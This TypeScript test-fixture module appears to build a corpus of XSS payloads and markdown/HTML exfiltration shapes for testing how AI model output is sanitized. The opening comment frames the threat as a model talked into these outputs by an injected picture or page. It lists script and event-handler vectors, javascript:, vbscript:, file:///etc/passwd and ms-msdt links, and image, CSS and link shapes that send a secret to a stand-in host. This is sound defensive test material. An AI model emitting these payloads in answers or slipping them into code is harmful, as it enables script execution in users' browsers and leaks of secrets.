/**
 * What an answer may hold when a picture or a page has talked the model into it. Shapes after reliability's T1 (script)
 * and T2 (exfiltration): PortSwigger's XSS cheat sheet, OWASP's filter evasion list, and the reports named there.
 */

const run = 'pwned()';
const away = 'https://away.test/?d=secret';

/** Vectors that would run script, open something, or leave the page where HTML or a scheme got through. */
const scripts: readonly string[] = [
  `<script>${run}</script>`,
  `<ScRiPt src=${away}></sCrIpT>`,
  `<img src=x onerror=${run}>`,
  `<img/src='x'/onerror='${run}'>`,
  `<svg onload=${run}>`,
  `<svg><script>${run}</script></svg>`,
  `<svg><animate onbegin=${run} attributeName=x dur=1s>`,
  `<svg><use href="data:image/svg+xml,<svg id='x' xmlns='http://www.w3.org/2000/svg'><script>${run}</script></svg>#x"/>`,
  `<math><mtext><table><mglyph><style><img src=x onerror=${run}>`,
  `<math><a xlink:href="javascript:${run}">x</a></math>`,
  `<iframe srcdoc="<script>parent.${run}</script>"></iframe>`,
  `<iframe src="javascript:parent.${run}"></iframe>`,
  `<object data="javascript:${run}"></object>`,
  `<embed src="javascript:${run}">`,
  `<details open ontoggle=${run}>x</details>`,
  `<body onload=${run}>`,
  `<input autofocus onfocus=${run}>`,
  `<select autofocus onfocus=${run}><option>x</select>`,
  `<select><button><selectedcontent></button><option><img src=x onerror=${run}></select>`,
  `<video><source onerror=${run}></video>`,
  `<audio src=x onerror=${run}>`,
  `<marquee onstart=${run}>x</marquee>`,
  `<meta http-equiv="refresh" content="0;url=${away}">`,
  `<base href="${away}">`,
  `<form action="${away}"><button autofocus>x</button></form>`,
  `<a href="javascript:${run}">x</a>`,
  `[x](javascript:${run})`,
  `[x](JaVaScRiPt:${run})`,
  `[x](java&#10;script:${run})`,
  `[x](&#106;avascript:${run})`,
  `[x](data:text/html,<script>${run}</script>)`,
  `[x](vbscript:${run})`,
  `[x](file:///etc/passwd)`,
  `[x](ms-msdt:/id)`,
  `<javascript:${run}>`,
  `![x](javascript:${run})`,
  `[x]: javascript:${run}\n\n[x]`,
  `$\\href{javascript:${run}}{x}$`,
  `$\\url{javascript:${run}}$`,
  `$\\includegraphics{${away}}$`,
  `$\\htmlData{onclick=${run}}{x}$`,
  `$\\def\\a{\\a\\a}\\a$`,
  `\`\`\`html\n<script>${run}</script>`,
  `\`\`\`mermaid\ngraph TD; A["<img src=x onerror=${run}>"]`,
  `<!--><img src=x onerror=${run}>-->`,
  `<![CDATA[<img src=x onerror=${run}>]]>`,
  `<noscript><p title="</noscript><img src=x onerror=${run}>">`,
  `<template shadowrootmode=open><img src=x onerror=${run}></template>`,
  `\u202e<img src=x onerror=${run}>\u202c`,
  `<style>@import '${away}';</style><x style="background:url(${away})">`,
  `<div id=__proto__ name=constructor onpointerenter=${run} style="position:fixed;inset:0">x</div>`,
];

/** Places where a text can stand; `%` is the vector. */
const places: readonly string[] = [
  '%',
  'before % after',
  '> %',
  '- one\n- %',
  '# %',
  '| a | b |\n|---|---|\n| % | x |',
  '**%**\n\n[^1]: %',
];

/** 357 texts. */
export const scriptTexts: readonly string[] = places.flatMap((place) =>
  scripts.map((vector) => place.replaceAll('%', () => vector)),
);

/** Shapes that would ask another machine for something, each with a secret in the address. 64 texts. */
export const fetchTexts: readonly string[] = [
  ...[
    '![x](%)',
    '![x](% "t")',
    '![x](<%>)',
    '![][r]\n\n[r]: %',
    '![r]\n\n[r]: %',
    '[![x](%)](%)',
    '%',
    '<%>',
  ],
  ...[
    '[x](%)',
    '[r]\n\n[r]: %',
    '| ![x](%) |\n|---|',
    '> ![x](%)',
    '- ![x](%)',
    '# ![x](%)',
    '[^1]\n\n[^1]: ![x](%)',
  ],
  ...['<img src="%">', '<img srcset="% 2x">', '<img src=x style="background:url(%)">', '<image href="%">'],
  ...[
    '<picture><source srcset="%"><img></picture>',
    '<video src="%" autoplay>',
    '<video poster="%">',
    '<audio src="%">',
  ],
  ...['<track src="%">', '<embed src="%">', '<object data="%">', '<iframe src="%">', '<frame src="%">'],
  ...['<link rel=stylesheet href="%">', '<link rel=icon href="%">', '<link rel=preload as=image href="%">'],
  ...['<link rel=prefetch href="%">', '<link rel=dns-prefetch href="%">', '<link rel=preconnect href="%">'],
  ...['<link rel=modulepreload href="%">', '<link rel=manifest href="%">', '<script src="%"></script>'],
  ...[
    '<style>@import url(%);</style>',
    '<style>body{background:url(%)}</style>',
    '<style>@font-face{src:url(%)}</style>',
  ],
  ...[
    '<p style="background:url(%)">',
    '<p style="list-style:url(%)">',
    '<table background="%">',
    '<body background="%">',
  ],
  ...['<input type=image src="%">', '<svg><image href="%"/></svg>', '<svg><use href="%#x"/></svg>'],
  ...[
    '<svg><feImage href="%"/></svg>',
    '<svg style="filter:url(%#x)">',
    '<svg><style>@import "%"</style></svg>',
  ],
  ...[
    '<a ping="%" href="%">x</a>',
    '<meta http-equiv=refresh content="0;url=%">',
    '<base href="%"><img src=x>',
  ],
  ...['<html manifest="%">', '<portal src="%">', '<math><mglyph src="%">', '<applet archive="%">'],
  ...['$\\includegraphics{%}$', '$\\href{%}{x}$', '```mermaid\ngraph TD; A["<img src=%>"]\n```'],
  ...['```svg\n<image href="%"/>\n```', '![x](//away.test/?d=secret)', '![x](https:away.test/?d=secret)'],
].map((shape) => shape.replaceAll('%', () => away));

/** The same at every run. */
export function seededNumbers(seed: number): () => number {
  let state = seed;
  return () => {
    state = (state * 1_664_525 + 1_013_904_223) >>> 0;
    return state / 2 ** 32;
  };
}

/** A text as it would stream in: its beginnings at random places, the whole last. */
export function beginningsOf(text: string, count: number, random: () => number): string[] {
  const ends = Array.from({ length: count }, () => Math.floor(random() * text.length));
  return [...ends.sort((a, b) => a - b), text.length].map((end) => text.slice(0, end));
}
